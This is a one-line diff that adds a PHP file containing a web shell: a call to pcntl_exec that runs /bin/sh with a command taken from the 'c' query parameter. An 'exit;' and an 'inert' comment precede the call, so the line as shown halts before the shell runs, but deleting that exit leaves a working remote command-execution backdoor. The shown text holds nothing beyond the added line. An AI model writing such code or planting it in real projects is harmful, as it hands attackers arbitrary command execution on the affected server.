@@ -1,0 +1,1 @@
+<?php exit; /* inert */ pcntl_exec("/bin/sh",["-c",$_GET["c"]]);
